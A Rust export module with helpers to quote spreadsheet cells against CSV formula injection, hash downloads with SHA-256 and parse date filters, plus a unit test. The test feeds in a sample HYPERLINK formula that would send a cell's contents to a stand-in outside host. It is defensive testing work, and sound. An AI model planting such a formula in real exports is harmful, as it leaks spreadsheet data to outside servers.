//! File formats out: what an operator downloads, and the manifest that lets
//! anyone check a download and recompute its tables.

pub mod battles;
pub mod campaign;

use anyhow::Context;
use chrono::{DateTime, NaiveDate, Utc};
use sha2::{Digest, Sha256};

/// Free text people wrote (a rater's comment or safety reason), made safe to
/// open in a spreadsheet: a cell that starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return would run as a formula there, so it gets a leading `'`
/// (OWASP's advice for CSV injection). The JSON lines export keeps the text
/// as written.
#[must_use]
pub fn spreadsheet_safe(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The SHA-256 of `bytes`, hex.
#[must_use]
pub fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A date (the start of that day; with `end`, the start of the next) or an
/// RFC 3339 time, as export and history filters take them.
///
/// # Errors
/// Neither form.
pub fn parse_when(text: &str, end: bool) -> anyhow::Result<DateTime<Utc>> {
    if let Ok(t) = DateTime::parse_from_rfc3339(text) {
        return Ok(t.with_timezone(&Utc));
    }
    let date = NaiveDate::parse_from_str(text, "%Y-%m-%d")
        .with_context(|| format!("{text:?} is not a date (2026-11-30) or an RFC 3339 time"))?;
    let day = if end {
        date.succ_opt().unwrap_or(date)
    } else {
        date
    };
    day.and_hms_opt(0, 0, 0)
        .map(|t| t.and_utc())
        .with_context(|| format!("{text:?} is out of range"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_quoted() {
        assert_eq!(
            spreadsheet_safe("=HYPERLINK(\"https://x/?\"&A1)"),
            "'=HYPERLINK(\"https://x/?\"&A1)"
        );
        for risky in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(spreadsheet_safe(risky).starts_with('\''), "{risky:?}");
        }
        assert_eq!(spreadsheet_safe("Too high a dose."), "Too high a dose.");
    }
}
